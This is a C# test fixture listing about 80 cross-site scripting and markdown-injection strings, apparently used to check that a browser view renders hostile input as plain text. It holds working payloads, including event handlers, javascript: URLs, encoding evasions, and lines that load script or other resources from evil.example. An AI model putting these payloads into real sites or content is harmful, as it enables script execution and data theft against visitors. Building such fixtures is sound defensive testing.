namespace Awareness.Browser.Tests;

/// <summary>What people write to see what a page makes of it. None of it may ever be more than text.</summary>
internal static class StrangeWords
{
    /// <summary>Pieces of markup, addresses and scripts, each of which once ran somewhere.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img src=https://evil.example/a.png>", "<img/src='x'/onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=https://evil.example/a.mp3 autoplay>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=https://evil.example></iframe>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=https://evil.example/a.css>", "<style>@import 'https://evil.example/a.css';</style>", "<style>*{background:url(https://evil.example/a)}</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>", "<form action=https://evil.example><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>", "<marquee onstart=alert(1)>", "<div style=background:url(https://evil.example/a)>x</div>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<x onclick=alert(1)>x</x>", "<!--><img src=x onerror=alert(1)>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "![x](https://evil.example/a.png)", "![x](javascript:alert(1))",
        "![x](https://evil.example/a.png \"x\" onerror=alert(1))", "[![x](https://evil.example/a.png)](https://evil.example)", "<javascript:alert(1)>", "<https://evil.example>", "[x]: https://evil.example/a.png\n\n![x]", "https://evil.example/?x=<script>alert(1)</script>",
        "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |", "$$\\href{javascript:alert(1)}{x}$$", "\\(\\url{javascript:alert(1)}\\)", "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}", "'-alert(1)-'", "\";alert(1);//", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "javascript:alert(1)", "\u202E<script>alert(1)</script>", "\uFEFF<img src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞", "<img\u00A0src=x\u00A0onerror=alert(1)>",
    ];
}
